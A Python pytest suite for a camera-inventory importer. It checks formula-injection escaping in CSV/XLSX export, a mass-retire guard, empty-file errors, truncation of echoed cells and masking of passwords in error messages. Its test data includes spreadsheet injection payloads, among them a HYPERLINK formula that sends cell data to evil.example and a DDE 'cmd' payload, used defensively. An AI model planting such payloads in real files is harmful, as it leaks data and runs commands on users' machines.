"""Inventory files that cannot hurt: formula injection neutralised (and undone on import), the
retire guard, files without data rows, cut echoes, the ids of cameras added. Real SQLite and
PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from inventory.cells import RISKY, TEXT_KEYS, is_risky, neutralise_csv, restore_csv
from inventory.db import create_engine
from inventory.fields import FIELDS, Parse
from inventory.importer import validate_file
from inventory.messages import ECHO_MAX, Issue, Severity
from inventory.models import Camera
from tests.inventory.helpers import box, do_export, do_import, migrated, snapshot, write_csv
from tests.inventory.test_import import ROWS, ZH, _write_zh

# Text cells a spreadsheet would run, as the CSV the test imports spells them (a text cell's
# leading apostrophe before a risky character is the export's escape, so ''=x is the value '=x).
HOSTILE = {
    "点位名称": "=1+1",
    "摄像机名称": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "厂商": "+cmd|' /C calc'!A0",
    "型号": "-2+3",
    "运维单位": "@SUM(A1:A9)",
    "固件版本": "''=already quoted",  # stored as '=already quoted
    "序列号": "'plain apostrophe",  # not risky: stored as written
    "用户名": "=user",
    "密码": "-secret=1",
    "村/社区": "@村",
}
STORED = {**HOSTILE, "固件版本": "'=already quoted"}
HEADERS = [*ZH[:16], "用户名", "密码", "厂商", "型号", "固件版本", "序列号", "运维单位"]


def _hostile_rows() -> list[list[str]]:
    base = dict(zip(ZH, ROWS[0], strict=True))
    row = {**base, **HOSTILE, "经度": "-12.5", "纬度": "-33.25", "上联设备": ""}
    other = {**dict(zip(ZH, ROWS[2], strict=True)), "经度": "", "纬度": ""}
    return [[row.get(h, "") for h in HEADERS], [other.get(h, "") for h in HEADERS]]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formula_cells_are_neutralised_and_round_trip(db_url: str, tmp_path: Path, kind: str) -> None:
    migrated(db_url)
    source = write_csv(tmp_path / "hostile.csv", HEADERS, _hostile_rows())
    first = do_import(db_url, source)
    assert first.written, [i.render("en") for i in first.plan.errors]
    original = snapshot(db_url)
    cam = original["cameras"][("127.20.0.1", 554, "/Streaming/Channels/101")]
    # the stored values are the cells' values: the export's escape undone, nothing else touched
    assert cam[1] == STORED["摄像机名称"] and cam[4] == "=user" and cam[5] == "-secret=1"
    assert cam[6:10] == ("+cmd|' /C calc'!A0", "-2+3", "'=already quoted", "'plain apostrophe")
    assert cam[11] == "@SUM(A1:A9)"
    point = next(v for (village, name), v in original["points"].items() if name == "=1+1")
    assert point[1:3] == (-12.5, -33.25)  # numbers, not text

    exported = tmp_path / f"export.{kind}"
    do_export(db_url, exported, include_secrets=True)
    if kind == "csv":
        with exported.open(encoding="utf-8-sig", newline="") as fh:
            table = list(csv.reader(fh))
        head, rows = table[0], table[1:]
        row = next(r for r in rows if r[head.index("点位名称")] == "'=1+1")
        for h, value in STORED.items():
            assert row[head.index(h)] == neutralise_csv(value), h
        assert row[head.index("经度")] == "-12.5" and row[head.index("纬度")] == "-33.25"
        # no text cell of any row starts with a character a spreadsheet runs
        for r in rows:
            for h, cell in zip(head, r, strict=True):
                if h not in ("经度", "纬度"):
                    assert cell[:1] not in RISKY, (h, cell)
    else:
        xml = _sheet_xml(exported)
        assert "<f>" not in xml and "<f " not in xml  # not one formula
        assert 't="e"' not in xml and 't="n"' not in xml
        ws = load_workbook(exported).worksheets[0]
        head = [c.value for c in ws[1]]
        row = next(r for r in ws.iter_rows(min_row=2) if r[head.index("点位名称")].value == "=1+1")
        for h, value in STORED.items():
            cell = row[head.index(h)]
            assert cell.data_type == "s" and cell.value == value, h
            assert cell.quotePrefix == is_risky(value), h
        lon = row[head.index("经度")]
        assert lon.value == "-12.5" and not lon.quotePrefix

    # into the same database: nothing changes; into a fresh one: the same inventory
    same = do_import(db_url, exported)
    assert same.plan.ok and same.plan.empty, [i.render("en") for i in same.plan.issues]
    fresh = migrated(f"sqlite:///{tmp_path / 'fresh.db'}")
    assert do_import(fresh, exported).written
    assert snapshot(fresh) == original


def test_text_keys_are_every_column_but_the_numeric_ones() -> None:
    numeric = {f.key for f in FIELDS if f.parse in (Parse.LON, Parse.LAT, Parse.PORT)}
    assert numeric == {"lon", "lat", "rtsp_port", "onvif_port"}
    assert {f.key for f in FIELDS} - numeric == TEXT_KEYS


@given(st.text(alphabet="=+-@\t\r'ab 村", max_size=8))
def test_csv_escape_is_exactly_reversible(value: str) -> None:
    cell = neutralise_csv(value)
    assert restore_csv(cell) == value
    assert cell[:1] not in RISKY
    assert (cell != value) == is_risky(value)


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\t=1", "\r=1"])
def test_each_risky_start_is_neutralised(value: str) -> None:
    assert neutralise_csv(value) == "'" + value


def _five_cameras(tmp: Path, keep: int, name: str = "inventory.csv") -> Path:
    """ZH's cameras plus one more (5 in use), keeping the first *keep* camera rows."""
    extra = list(ROWS[1])
    extra[11], extra[13] = "东关村村口3", "127.20.0.4"
    cams = [r for r in ROWS if r[13]] + [extra]
    rows = cams[:keep] + [r for r in ROWS if not r[13]]
    return write_csv(tmp / name, ZH, rows, "gb18030")


def test_retire_guard_stops_a_partial_file(db_url: str, tmp_path: Path) -> None:
    migrated(db_url)
    assert do_import(db_url, _five_cameras(tmp_path, 5)).written
    before = snapshot(db_url)
    # 1 of 5 (20%) is not more than the guard: retired
    partial = do_import(db_url, _five_cameras(tmp_path, 4), retire_guard=0.2, dry_run=True)
    assert partial.plan.ok and len(partial.plan.camera_retired) == 1
    # 3 of 5: stops, nothing written, the message names the share and the way through
    out = do_import(db_url, _five_cameras(tmp_path, 2), retire_guard=0.2)
    assert not out.written and snapshot(db_url) == before
    [err] = out.plan.errors
    assert err.code == "mass_retire"
    zh, en = err.render("zh"), err.render("en")
    assert "示范县" in zh and "3/5" in zh and "--allow-mass-retire" in zh and "--no-retire" in zh
    assert "3 of 5" in en and "60%" in en and "20%" in en and "--allow-mass-retire" in en
    # without retiring, the partial file imports; without the guard it retires
    assert do_import(db_url, _five_cameras(tmp_path, 2), retire_missing=False, retire_guard=0.2).plan.empty
    done = do_import(db_url, _five_cameras(tmp_path, 2), retire_guard=None)
    assert done.written and len(done.plan.camera_retired) == 3
    # retired cameras no longer count as in use: 0 of the 2 left retire now
    assert do_import(db_url, _five_cameras(tmp_path, 2), retire_guard=0.0).plan.empty


def test_files_without_data_rows_are_errors_naming_the_file(db_url: str, tmp_path: Path) -> None:
    migrated(db_url)
    headers_only = write_csv(tmp_path / "only-headers.csv", ZH, [])
    blank_lines = tmp_path / "blank-lines.csv"
    blank_lines.write_text(",".join(ZH) + "\n,,,\n\n", encoding="utf-8")
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    wb = Workbook()
    wb.active.append(ZH)
    wb.save(tmp_path / "only-headers.xlsx")
    for path, code in ((headers_only, "file_no_rows"), (blank_lines, "file_no_rows"), (empty, "file_empty"),
                       (tmp_path / "only-headers.xlsx", "file_no_rows")):
        out = do_import(db_url, path)
        assert not out.written
        [err] = out.plan.errors
        assert err.code == code and str(path) in err.render("zh") and str(path) in err.render("en")
    assert snapshot(db_url)["cameras"] == {}


@pytest.mark.parametrize("name", ["台账.xls", "台账.et"])
def test_an_old_excel_or_wps_file_says_to_save_it_as_xlsx(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)  # (an OLE2 compound file's header)
    [err] = validate_file(path, box()).errors
    assert err.code == "file_format_old" and str(path) in err.render("zh")
    assert "另存为 .xlsx" in err.render("zh") and "save it as .xlsx" in err.render("en")


def test_echoed_cells_are_cut_to_80_characters(tmp_path: Path) -> None:
    url = migrated(f"sqlite:///{tmp_path / 'cut.db'}")
    rows = [list(r) for r in ROWS]
    rows[0][14] = "9" * 10_000 + "x"  # RTSP端口: not a number, echoed
    rows[1][13] = "h" * 5_000 + " x"  # IP地址: not a host, echoed
    out = do_import(url, _write_zh(tmp_path, rows))
    assert not out.written
    echoed = {e.code: e for e in out.plan.errors}
    for code in ("bad_int", "bad_host"):
        text = echoed[code].render("en")
        assert len(text) < 200 and "…" in text
        quoted = re.search(r"'([^']*…)'", text)
        assert quoted is not None and len(quoted.group(1)) == ECHO_MAX
    # a long unknown header is cut where it is named too; a value of 80 is whole
    issue = Issue(Severity.WARNING, "header_unknown", 1, "列" * 500, {"column": "列" * 500})
    assert issue.render().count("列") < 2 * ECHO_MAX + 10 and issue.as_dict()["column"] == "列" * 79 + "…"
    assert Issue(Severity.ERROR, "bad_int", 2, "x", {"value": "7" * 80}).message("en") == f"'{'7' * 80}' is not a whole number"


@pytest.mark.parametrize("column,cell", [
    ("IP地址", "admin:Pw-Leak-1@127.20.0.1"),  # user:pass@ in a host cell (no scheme)
    ("RTSP地址", "rtsp:/admin:Pw-Leak-1@127.20.0.1/x"),  # a mistyped scheme
    ("RTSP地址", "rtsp://admin:Pw-Leak-1@127.20.0.1:abc/x"),
    ("RTSP地址", "admin:Pw@Leak-1@127.20.0.1/x"),  # a password with "@" in it
])
def test_echoed_cells_never_show_a_password(tmp_path: Path, column: str, cell: str) -> None:
    url = migrated(f"sqlite:///{tmp_path / 'pw.db'}")
    headers = ["县/区", "乡镇/街道", "村/社区", "点位名称", column]
    out = do_import(url, write_csv(tmp_path / "pw.csv", headers, [["示范县", "城关镇", "东关村", "村口", cell]]))
    assert not out.written and out.plan.errors
    for lang in ("zh", "en"):
        shown = " ".join(e.render(lang) + str(e.as_dict(lang)) for e in out.plan.issues)
        assert "Leak-1" not in shown and "admin:***@" in shown, shown


def test_import_reports_the_ids_of_cameras_added(db_url: str, tmp_path: Path) -> None:
    migrated(db_url)
    first = do_import(db_url, _five_cameras(tmp_path, 4))
    assert len(first.added_ids) == 4 and len(set(first.added_ids)) == 4
    second = do_import(db_url, _five_cameras(tmp_path, 5))
    assert len(second.added_ids) == 1 and second.added_ids[0] not in first.added_ids
    ids = _ids_by_host(db_url)
    # in the file's order: the ids of the hosts of the camera rows
    assert list(first.added_ids) == [ids[r[13]] for r in ROWS if r[13]]
    assert second.added_ids == (ids["127.20.0.4"],)
    assert do_import(db_url, _five_cameras(tmp_path, 5)).added_ids == ()  # nothing new, nothing written


def _ids_by_host(url: str) -> dict[str, int]:
    async def go() -> dict[str, int]:
        engine = create_engine(url)
        try:
            async with engine.connect() as conn:
                return {h: i for i, h in (await conn.execute(select(Camera.id, Camera.host))).all()}
        finally:
            await engine.dispose()

    return asyncio.run(go())
